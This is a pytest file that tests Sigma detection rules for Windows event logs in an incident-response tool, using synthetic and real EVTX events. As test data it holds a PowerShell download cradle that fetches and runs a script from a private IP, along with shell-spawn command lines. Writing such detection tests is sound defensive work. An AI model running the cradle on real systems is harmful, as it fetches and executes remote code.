"""Sigma rules for Windows event logs over the store's `events`, through the same Sigma path as
the web rules: the shipped rules fire on the events made for each and stay quiet on the same
event ids from another channel or provider; on the real EVTX files they find the Administrators
additions (4732) and the service run from a user's Temp folder (7045), nothing else; a user's
rule with a field no event has is listed, located; the skip counts of a mixed folder are right."""

from __future__ import annotations

import hashlib
import textwrap
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from irtool.analysis.evtx import read_evtx_paths
from irtool.analysis.hunts import FindingDraft
from irtool.analysis.sigma import SHIPPED_RULES, RuleSet, load_rules, run_rules
from irtool.analysis.store import RequestStore, events_table
from irtool.analysis.w3c import read_paths

ROOT = Path(__file__).parent
EVTX = next(
    (d for d in (ROOT / "data" / "evtx", ROOT.parent.parent / "shared" / "data" / "evtx")
     if (d / "security.evtx").exists()),
    ROOT / "data" / "evtx",
)  # fmt: skip
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY_AUDIT = "Microsoft-Windows-Security-Auditing"
PS = "Microsoft-Windows-PowerShell/Operational"
SCM = "Service Control Manager"
W3WP = r"c:\windows\system32\inetsrv\w3wp.exe"
CMD = r"C:\Windows\System32\cmd.exe"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://10.9.9.9/a.ps1')"
SHIPPED = {
    "sigma:win_w3wp_spawns_shell",
    "sigma:win_service_installed_suspicious_path",
    "sigma:win_security_log_cleared",
    "sigma:win_powershell_download_cradle",
    "sigma:win_local_admins_member_added",
}
SHA = hashlib.sha256(b"synthetic events").hexdigest()


# -- helpers ----------------------------------------------------------------------------------


def event(
    host: str | None,
    channel: str,
    provider: str,
    event_id: int,
    data: dict[str, str],
    *,
    computer: str = "WIN-SRV",
    at: str = "2024-03-01 10:00:00",
) -> dict[str, Any]:
    return {
        "host": host,
        "channel": channel,
        "provider": provider,
        "event_id": event_id,
        "data": data,
        "computer": computer,
        "ts": at,
    }


def add(store: RequestStore, rows: Sequence[dict[str, Any]]) -> None:
    """The rows into `events` as the EVTX loader writes them (line: the EventRecordID)."""
    con = store._con
    con.execute(events_table())
    for i, row in enumerate(rows, start=1):
        con.execute(
            "INSERT INTO events (ts, channel, provider, event_id, level, computer, data, raw, "
            "evidence_sha256, source, line, host) VALUES (CAST($ts AS TIMESTAMP), $channel, "
            "$provider, $event_id, 4, $computer, map($keys, $values), '{}', $sha, "
            "'synthetic.evtx', $line, $host)",
            {
                **{k: row[k] for k in ("ts", "channel", "provider", "event_id", "computer")},
                "keys": list(row["data"]),
                "values": list(row["data"].values()),
                "sha": SHA,
                "line": i,
                "host": row["host"],
            },
        )


def rule_file(directory: Path, name: str, body: str) -> Path:
    path = directory / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(body), encoding="utf-8")
    return path


def fired(findings: list[FindingDraft]) -> set[tuple[str, str]]:
    """(rule, host) of each finding: the key is sigma:<rule id>:<host>."""
    return {(f.hunt, f.key.rsplit(":", 1)[1]) for f in findings}


def by(findings: list[FindingDraft], hunt: str, who: str) -> FindingDraft:
    return next(f for f in findings if f.hunt == hunt and f.key.endswith(":" + who))


@pytest.fixture(scope="module")
def shipped() -> RuleSet:
    return load_rules()


@pytest.fixture
def store() -> Iterator[RequestStore]:
    s = RequestStore(":memory:")
    try:
        yield s
    finally:
        s.close()


def windows(rules: RuleSet) -> list[Any]:
    return [r for r in rules.rules if r.table == "events"]


# -- the shipped rules ------------------------------------------------------------------------


def test_shipped_windows_rules_load_complete(shipped: RuleSet) -> None:
    assert shipped.unconvertible == []
    assert shipped.skipped_other_sources == 0
    rules = windows(shipped)
    assert {r.hunt for r in rules} == SHIPPED
    for rule in rules:
        assert rule.path.parent == SHIPPED_RULES / "windows"
        assert len(rule.id) == 36 and rule.id.count("-") == 4  # a UUID
        assert rule.level == "high"
        assert rule.title and rule.description and rule.falsepositives
        assert any(t.startswith("attack.t") for t in rule.tags), rule.hunt
    # The web rules still run over the requests, the Windows ones over the events.
    assert {r.table for r in shipped.rules} == {"requests", "events"}


# Each case: the events of one host, and the rules that must fire there (exactly).
CASES: dict[str, tuple[list[dict[str, Any]], set[str]]] = {
    "WEB01": (  # Sysmon 1: w3wp starts cmd
        [event("WEB01", SYSMON, "Microsoft-Windows-Sysmon", 1,
               {"Image": CMD, "ParentImage": W3WP, "CommandLine": "cmd /c whoami",
                "User": r"IIS APPPOOL\DefaultAppPool"})],
        {"sigma:win_w3wp_spawns_shell"},
    ),
    "WEB02": (  # Security 4688 (Windows' own audit): its own field names
        [event("WEB02", "Security", SECURITY_AUDIT, 4688,
               {"NewProcessName": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "ParentProcessName": W3WP, "CommandLine": "powershell -enc AAAA",
                "SubjectUserName": "WEB02$"})],
        {"sigma:win_w3wp_spawns_shell"},
    ),
    "WEB03": (  # near misses: the same events from another provider or channel, csc.exe
        [
            event("WEB03", "Security", "Fake-Auditing", 4688,
                  {"NewProcessName": CMD, "ParentProcessName": W3WP}),
            event("WEB03", "System", "Microsoft-Windows-Kernel-General", 1,
                  {"Image": CMD, "ParentImage": W3WP}),
            event("WEB03", SYSMON, "Microsoft-Windows-Sysmon", 1,
                  {"Image": r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe",
                   "ParentImage": W3WP}),
            event("WEB03", SYSMON, "Microsoft-Windows-Sysmon", 3,
                  {"Image": CMD, "ParentImage": W3WP}),
        ],
        set(),
    ),
    "WEB04": (  # 7045: from a user's folder, and as a shell command line
        [
            event("WEB04", "System", SCM, 7045,
                  {"ServiceName": "updsvc", "ImagePath": r"C:\Users\Public\upd.exe",
                   "AccountName": "LocalSystem"}),
            event("WEB04", "System", SCM, 7045,
                  {"ServiceName": "BTOBTO", "ImagePath": r"%COMSPEC% /Q /c echo whoami ^> x",
                   "AccountName": "LocalSystem"}, at="2024-03-01 10:05:00"),
        ],
        {"sigma:win_service_installed_suspicious_path"},
    ),
    "WEB05": (  # 7045 near misses: another channel or provider, Defender, Program Files
        [
            event("WEB05", "Application", SCM, 7045,
                  {"ServiceName": "x", "ImagePath": r"C:\Users\Public\upd.exe"}),
            event("WEB05", "System", "Fake SCM", 7045,
                  {"ServiceName": "x", "ImagePath": r"C:\Users\Public\upd.exe"}),
            event("WEB05", "System", SCM, 7045,
                  {"ServiceName": "MpKsl", "ImagePath": r"C:\ProgramData\Microsoft\Windows "
                   r"Defender\Definition Updates\{9F21}\MpKsl34afefd5.sys"}),
            event("WEB05", "System", SCM, 7045,
                  {"ServiceName": "vmtools",
                   "ImagePath": r'"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"'}),
        ],
        set(),
    ),
    "WEB06": (  # 1102 and its near misses: another provider, another channel
        [
            event("WEB06", "Security", "Microsoft-Windows-Eventlog", 1102,
                  {"LogFileCleared.SubjectUserName": "eve"}),
            event("WEB06", "Security", SECURITY_AUDIT, 1102, {}),
            event("WEB06", "Application", "Microsoft-Windows-Eventlog", 1102, {}),
        ],
        {"sigma:win_security_log_cleared"},
    ),
    "WEB07": (  # 4104 with a download cradle, and the same text where 4104 is not a script
        [
            event("WEB07", PS, "Microsoft-Windows-PowerShell", 4104,
                  {"ScriptBlockText": CRADLE, "Path": ""}),
            event("WEB07", "Windows PowerShell", "PowerShell", 4104, {"ScriptBlockText": CRADLE}),
            event("WEB07", PS, "Other-Provider", 4104, {"ScriptBlockText": CRADLE}),
            event("WEB07", PS, "Microsoft-Windows-PowerShell", 4104,
                  {"ScriptBlockText": "(New-Object Net.WebClient).DownloadFile($u, 'a.zip')"}),
        ],
        {"sigma:win_powershell_download_cradle"},
    ),
    "WEB08": (  # 4732 to Administrators; to Users; from another provider or channel
        [
            event("WEB08", "Security", SECURITY_AUDIT, 4732,
                  {"TargetSid": "S-1-5-32-544", "TargetUserName": "Administrators",
                   "MemberSid": "S-1-5-21-1-2-3-1009", "MemberName": "-"}),
            event("WEB08", "Security", SECURITY_AUDIT, 4732,
                  {"TargetSid": "S-1-5-32-545", "MemberSid": "S-1-5-21-1-2-3-1010"}),
            event("WEB08", "Security", "Fake-Auditing", 4732, {"TargetSid": "S-1-5-32-544"}),
            event("WEB08", "System", SECURITY_AUDIT, 4732, {"TargetSid": "S-1-5-32-544"}),
        ],
        {"sigma:win_local_admins_member_added"},
    ),
}  # fmt: skip


@pytest.fixture
def cases(store: RequestStore, shipped: RuleSet) -> list[FindingDraft]:
    add(store, [row for rows, _ in CASES.values() for row in rows])
    return run_rules(store, shipped.rules)


def test_every_shipped_rule_fires_on_its_events_and_only_there(cases: list[FindingDraft]) -> None:
    expected = {(rule, host) for host, (_, rules) in CASES.items() for rule in rules}
    assert fired(cases) == expected
    assert {hunt for hunt, _ in expected} == SHIPPED
    for finding in cases:
        assert finding.severity == "high"
        assert finding.hosts == (finding.key.rsplit(":", 1)[1],)


def test_a_finding_names_its_events_their_values_and_indicators(cases: list[FindingDraft]) -> None:
    service = by(cases, "sigma:win_service_installed_suspicious_path", "WEB04")
    assert service.count == 2  # one finding per rule and host
    assert (service.first_seen, service.last_seen) == (
        "2024-03-01T10:00:00+00:00",
        "2024-03-01T10:05:00+00:00",
    )
    assert service.key == "sigma:88b5f56a-e93b-46b1-9d51-b2ad739862ed:WEB04"
    assert [line for _sha, _source, line in service.refs] == [7, 8]
    assert {sha for sha, _source, _line in service.refs} == {SHA}
    assert service.summary == (
        "Service Installed from a User-Writable Folder or as a Command Line: 2 events on WEB04 "
        r"(System 7045): ServiceName=updsvc, ImagePath=C:\Users\Public\upd.exe, "
        "AccountName=LocalSystem"
    )
    assert service.indicators == (("service", "updsvc"),)
    admins = by(cases, "sigma:win_local_admins_member_added", "WEB08")
    assert "MemberSid=S-1-5-21-1-2-3-1009" in admins.summary
    assert "MemberName" not in admins.summary  # "-": Windows' "none"
    assert admins.indicators == (("account", "S-1-5-21-1-2-3-1009"),)
    shell = by(cases, "sigma:win_w3wp_spawns_shell", "WEB02")
    # A 4688 event shows its own names (what the rule read of it).
    assert "(Security 4688)" in shell.summary
    assert "CommandLine=powershell -enc AAAA" in shell.summary
    assert "NewProcessName=" in shell.summary and shell.indicators == ()


def test_the_host_is_the_record_computer_without_an_incident_host(
    store: RequestStore, shipped: RuleSet
) -> None:
    add(store, [event(None, "Security", "Microsoft-Windows-Eventlog", 1102, {}, computer="DC01")])
    [finding] = run_rules(store, shipped.rules)
    assert finding.key.endswith(":DC01") and finding.hosts == ()
    assert finding.summary == "Security Log Cleared: 1 event on DC01 (Security 1102)"


def test_windows_rules_need_no_events_table_and_web_rules_run_beside_them(
    tmp_path: Path, store: RequestStore, shipped: RuleSet
) -> None:
    log = tmp_path / "u_ex240301.log"
    log.write_text(
        "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status\n"
        "2024-03-01 10:00:00 10.0.0.7 POST /aspnet_client/x.aspx - 200\n",
        encoding="utf-8",
    )
    store.load(read_paths([log]), host="WEB09")
    add(store, CASES["WEB06"][0])
    both = fired(run_rules(store, shipped.rules))
    assert both == {
        ("sigma:web_iis_aspnet_client_script_post", "10.0.0.7"),
        ("sigma:win_security_log_cleared", "WEB06"),
    }
    store._con.execute("DROP TABLE events")  # a store of before the events table
    assert fired(run_rules(store, shipped.rules)) == {
        ("sigma:web_iis_aspnet_client_script_post", "10.0.0.7")
    }


def test_the_windows_rules_run_in_one_scan_of_the_events(
    store: RequestStore, shipped: RuleSet, monkeypatch: pytest.MonkeyPatch
) -> None:
    add(store, [row for rows, _ in CASES.values() for row in rows])
    scans: list[str] = []
    query = store.query

    def counted(sql: str, params: Any = None) -> list[dict[str, Any]]:
        scans.append(sql)
        return query(sql, params)

    monkeypatch.setattr(store, "query", counted)
    found = run_rules(store, windows(shipped))
    assert len(found) == 6
    assert sum("FROM events" in sql for sql in scans) == 1
    assert not any("FROM requests" in sql for sql in scans)


# -- the real event logs ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def real() -> Iterator[list[FindingDraft]]:
    files = [EVTX / name for name in ("security.evtx", "post-Security.evtx", "system.evtx")]
    with RequestStore(":memory:") as store:
        store.load_events(read_evtx_paths(files))
        assert store.query("SELECT count(*) AS n FROM events")[0]["n"] == 2261 + 126 + 1881
        yield run_rules(store, load_rules(shipped=True).rules)


def test_on_real_logs_the_administrators_additions_are_found(real: list[FindingDraft]) -> None:
    assert fired(real) == {
        ("sigma:win_local_admins_member_added", "WIN-03DLIIOFRRA"),
        ("sigma:win_local_admins_member_added", "John-PC"),
        ("sigma:win_service_installed_suspicious_path", "DESKTOP-2KGM189"),
    }
    admins = by(real, "sigma:win_local_admins_member_added", "WIN-03DLIIOFRRA")
    # 4732 x6 in security.evtx: three to Administrators (the others to Users and
    # Performance Log Users), by EventRecordID.
    assert admins.count == 3
    assert [line for _sha, source, line in admins.refs] == [58, 752, 821]
    assert {Path(source).name for _sha, source, _line in admins.refs} == {"security.evtx"}
    sha = hashlib.sha256((EVTX / "security.evtx").read_bytes()).hexdigest()
    assert {s for s, _source, _line in admins.refs} == {sha}
    assert "TargetUserName=Administrators" in admins.summary
    assert by(real, "sigma:win_local_admins_member_added", "John-PC").count == 1


def test_on_real_logs_only_the_service_run_from_temp_is_suspicious(
    real: list[FindingDraft],
) -> None:
    # 57 services installed: drivers, VMware, Google, Defender's from ProgramData, and one
    # test agent installed from a user's Temp folder.
    service = by(real, "sigma:win_service_installed_suspicious_path", "DESKTOP-2KGM189")
    assert service.count == 1
    assert r"\AppData\Local\Temp\pytest-of-tony" in service.summary
    assert "pathfinder.exe" in service.summary


# -- matching over events ---------------------------------------------------------------------


def run(store: RequestStore, directory: Path) -> set[tuple[str, str]]:
    ruleset = load_rules([directory], shipped=False)
    assert ruleset.unconvertible == []
    return fired(run_rules(store, ruleset.rules))


def test_matching_semantics_over_event_data(tmp_path: Path, store: RequestStore) -> None:
    add(
        store,
        [
            event("A", "Security", SECURITY_AUDIT, 4624,
                  {"LogonType": "10", "IpAddress": "203.0.113.9", "TargetUserName": "bob"}),
            event("B", "Security", SECURITY_AUDIT, 4624,
                  {"LogonType": "3", "IpAddress": "10.0.0.5", "TargetUserName": "svc",
                   "WorkstationName": "WS1"}),
            event("C", "System", SCM, 7045,
                  {"ServiceName": "a+b", "ImagePath": r"C:\Tools\x.exe"}),
            event("D", SYSMON, "Microsoft-Windows-Sysmon", 1,
                  {"Image": r"C:\x\p.exe", "Hashes": "SHA1=AB,MD5=CD,IMPHASH=ABCDEF12"}),
            event("E", "Security", SECURITY_AUDIT, 4688,
                  {"NewProcessName": r"C:\x\p.exe"}),
        ],
    )  # fmt: skip
    rules = tmp_path / "rules"
    body = textwrap.dedent("""\
        title: {name}
        id: 6d3c4c1e-0000-4000-8000-0000000001{n:02d}
        logsource: {logsource}
        detection:
          {detection}
        level: low
        """)
    cases = {
        # numbers compare numerically; `not` of a missing field is true
        "rdp": ("{product: windows, service: security}",
                "sel: {EventID: 4624, LogonType: 10}\n  wk: {WorkstationName: WS1}\n"
                "  condition: sel and not wk"),
        # a name in another case is found (Windows' spelling first, then any case)
        "loose": ("{product: windows, service: security}",
                  "sel: {ipaddress|startswith: '10.'}\n  condition: sel"),
        # |re is RE2, case-sensitive
        "regex": ("{product: windows, service: security}",
                  "sel: {TargetUserName|re: '^b.b$'}\n  condition: sel"),
        # keywords search the data values (a Windows path, not JSON's escaped one), and a
        # '+' is a plus (not W3C's space)
        "keyword": ("{product: windows, service: system}",
                    "keywords: ['\\\\Tools\\\\x.exe']\n  condition: keywords"),
        "plus": ("{product: windows, service: system}",
                 "sel: {ServiceName: 'a+b'}\n  condition: sel"),
        "space": ("{product: windows, service: system}",
                  "sel: {ServiceName: 'a b'}\n  condition: sel"),
        # Sysmon's hashes by Sigma's names; 4688 has none (NULL: `not` of it is true there)
        "imphash": ("{product: windows, category: process_creation}",
                    "sel: {Imphash: abcdef12}\n  condition: sel"),
        # a list of values is one RE2 pass over the field: exact, wildcards and prefixes as
        # one by one (regex characters in the values are plain)
        "eqlist": ("{product: windows, category: process_creation}",
                   "sel: {Image: ['C:\\X\\P.EXE', 'other']}\n  condition: sel"),
        "partial": ("{product: windows, category: process_creation}",
                    "sel: {Image: ['c:\\x\\p', 'p.exe', 'c:\\x\\p.exe.']}\n"
                    "  condition: sel"),
        "wild": ("{product: windows, category: process_creation}",
                 "sel: {Image: ['c:*\\\\p?exe', 'zz*']}\n  condition: sel"),
        "starts": ("{product: windows, category: process_creation}",
                   "sel: {Image|startswith: ['C:\\Y', 'c:\\x\\']}\n  condition: sel"),
        "nohash": ("{product: windows, category: process_creation}",
                   "sel: {Image|endswith: '\\p.exe'}\n  h: {Hashes|contains: 'MD5='}\n"
                   "  condition: sel and not h"),
    }  # fmt: skip
    for n, (name, (logsource, detection)) in enumerate(cases.items()):
        rule_file(rules, f"{name}.yml", body.format(name=name, n=n, logsource=logsource,
                                                     detection=detection))  # fmt: skip
    assert run(store, rules) == {
        ("sigma:rdp", "A"),
        ("sigma:loose", "B"),
        ("sigma:regex", "A"),
        ("sigma:keyword", "C"),
        ("sigma:plus", "C"),
        ("sigma:imphash", "D"),
        ("sigma:nohash", "E"),
        *(("sigma:" + name, host) for name in ("eqlist", "wild", "starts") for host in "DE"),
    }


# -- a user's rules ---------------------------------------------------------------------------


def test_a_field_no_event_has_is_listed_located(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    typo = rule_file(
        rules,
        "typo.yml",
        """\
        title: Typo
        id: 6d3c4c1e-0000-4000-8000-000000000201
        logsource:
          category: process_creation
          product: windows
        detection:
          selection:
            ParentImage|endswith: '\\w3wp.exe'
            Imagee|endswith: '\\cmd.exe'
          condition: selection
        level: high
        """,
    )
    web = rule_file(
        rules,
        "webfield.yml",
        """\
        title: A web field in a Windows log
        id: 6d3c4c1e-0000-4000-8000-000000000202
        logsource: {product: windows, service: security}
        detection:
          selection:
            EventID: 4624
            cs(User-Agent)|contains: sqlmap
          condition: selection
        level: high
        """,
    )
    ruleset = load_rules([rules], shipped=False)
    assert ruleset.rules == []
    assert ruleset.unconvertible == [
        f"{typo}:9:5: field 'Imagee' is not a field of process_creation events "
        "(Sysmon 1, Security 4688)",
        f"{web}:7:5: field 'cs(User-Agent)' is not an event data name",
    ]


def test_a_mixed_folder_counts_what_it_skips(tmp_path: Path) -> None:
    rules = tmp_path / "rules"

    def one(name: str, n: int, logsource: str, selection: str, status: str = "test") -> None:
        rule_file(
            rules,
            name,
            f"""\
            title: {name}
            id: 6d3c4c1e-0000-4000-8000-0000000003{n:02d}
            status: {status}
            logsource: {logsource}
            detection:
              selection: {selection}
              condition: selection
            level: low
            """,
        )

    one("web.yml", 1, "{category: webserver}", "{cs-method: PUT}")
    one("win.yml", 2, "{product: windows, service: security}", "{EventID: 4720}")
    one("proc.yml", 3, "{product: windows, category: process_creation}", "{Image: x}")
    one("classic.yml", 4, "{product: windows, category: ps_classic_start}", "{Data: x}")
    one("nosuch.yml", 5, "{product: windows, service: nonesuch}", "{EventID: 1}")
    one("linux/auditd.yml", 6, "{product: linux, service: auditd}", "{type: EXECVE}")
    one("old.yml", 7, "{product: windows, service: system}", "{EventID: 7045}", "deprecated")
    one("odd.yml", 8, "{category: webserver}", "{cs-method: GET}", "unsupported")
    one("bad.yml", 9, "{product: windows, category: file_event}", "{Imagee: x}")
    ruleset = load_rules([rules], shipped=False)
    assert sorted((r.hunt, r.table) for r in ruleset.rules) == [
        ("sigma:proc", "events"),
        ("sigma:web", "requests"),
        ("sigma:win", "events"),
    ]
    assert ruleset.skipped_other_sources == 3  # ps_classic_start, nonesuch, auditd
    assert ruleset.skipped_status == 2
    assert [u.split(": ", 1)[1] for u in ruleset.unconvertible] == [
        "field 'Imagee' is not a field of file_event events (Sysmon 11)"
    ]
    assert ruleset.notes() == [
        "3 rules of other log sources skipped",
        "2 deprecated or unsupported rules skipped",
        "1 rules cannot be converted (listed)",
    ]
